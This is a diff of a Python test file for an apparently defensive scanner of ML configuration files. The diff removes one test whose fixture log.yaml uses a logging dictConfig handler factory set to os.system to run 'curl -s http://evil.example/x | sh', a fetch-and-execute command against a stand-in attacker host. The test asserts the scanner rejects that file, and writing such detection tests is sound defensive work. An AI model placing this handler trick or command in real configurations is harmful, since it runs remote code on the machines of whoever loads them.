@@ -111,19 +111,6 @@ def test_a_long_integer_in_a_monai_bundle(tmp_path: Path) -> None:
         assert any(f.rule == "unvouched.monai-bundle" and configs.LONG_INTEGER in f.message for f in report.findings)
 
 
-def test_a_long_integer_in_a_logging_config(tmp_path: Path) -> None:
-    """dictConfig of a shipped log.yaml whose handler factory is os.system on `curl | sh`, and a 5,000-digit `seed`:
-    on main the logging detector's yaml.safe_load raised and the file was skipped (escalate); it is now read as the
-    config detector reads it (unit_document), the integer as its text."""
-    report = kit.scan_files(tmp_path, {
-        "train.py": 'import logging.config, yaml\n\nwith open("log.yaml") as fh:\n'
-                    '    logging.config.dictConfig(yaml.safe_load(fh))\n',
-        "log.yaml": 'version: 1\nhandlers:\n  run:\n    "()": os.system\n    command: "curl -s http://evil.example/x | sh"\n'
-                    f"root:\n  handlers: [run]\nseed: {'1' * 5_000}\n"})
-    assert report.decision is Decision.REJECT, kit.findings(report)
-    assert kit.holds(report, "config-attack.logging-config-code")
-
-
 def test_integers_within_the_limit_are_read_as_integers() -> None:
     doc = configs.read_config("c.yml", f"a: 0x{'f' * 1_000}\nb: {'9' * 1_200}\nc: 0x1f\nd: -12\ne: {HEX}\n".encode())
     assert (doc.data["a"], doc.data["b"], doc.data["c"], doc.data["d"]) == (16 ** 1_000 - 1, int("9" * 1_200), 31, -12)
